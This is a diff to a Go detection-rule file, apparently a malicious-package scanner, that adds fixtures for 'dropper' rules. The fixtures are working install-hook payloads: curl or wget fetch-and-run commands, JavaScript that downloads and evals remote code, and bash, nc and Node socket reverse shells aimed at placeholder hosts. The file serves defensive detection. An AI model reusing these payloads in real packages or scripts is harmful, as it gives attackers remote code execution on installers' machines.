@@ -18,6 +18,8 @@ func dropper() []Rule {
 				Package("piped into a shell", `"scripts":{"preinstall":"curl -s http://203.0.113.9/x | sh"}`, nil),
 				Package("saved, then started", `"scripts":{"postinstall":"wget -q https://c.example/m -O /tmp/m; chmod +x /tmp/m; /tmp/m"}`, nil),
 				Package("evaluated", `"main":"i.js"`, map[string]string{"i.js": "require('https').get('https://c.example/p.js',r=>{let s='';r.on('data',d=>s+=d);r.on('end',()=>eval(s))})"}),
+				Package("fetched to a file, then started", `"scripts":{"postinstall":"node i.js"}`, map[string]string{"i.js": "const http=require('http'),fs=require('fs'),os=require('os'),cp=require('child_process');const f=fs.createWriteStream(os.tmpdir()+'/u');http.get('http://203.0.113.8/u',r=>{r.pipe(f);f.on('finish',()=>{f.close();cp.exec(os.tmpdir()+'/u')})})"}),
+				Package("as a function", `"main":"i.js"`, map[string]string{"i.js": "fetch('https://c.example/p.js').then(r=>r.text()).then(t=>{new Function(t)()})"}),
 				One("decoded first", "install.sh", "curl -s https://c.example/x | base64 -d | bash\n"),
 			},
 			Neighbours: []Example{
@@ -31,6 +33,7 @@ func dropper() []Rule {
 			When: []Condition{{Sources: []string{b.Download}, Sinks: []string{b.Code}, Schemes: []string{"tcp"}}},
 			Examples: []Example{
 				One("bash's own network", "install.sh", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"),
+				Package("a socket joined to a shell", `"main":"i.js"`, map[string]string{"i.js": "(function(){var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);var c=new net.Socket();c.connect(4444,'203.0.113.9',function(){c.pipe(sh.stdin);sh.stdout.pipe(c)});return /a/})()"}),
 				Package("nc", `"scripts":{"postinstall":"nc -e /bin/sh 203.0.113.7 4444"}`, nil),
 			},
 			Neighbours: []Example{
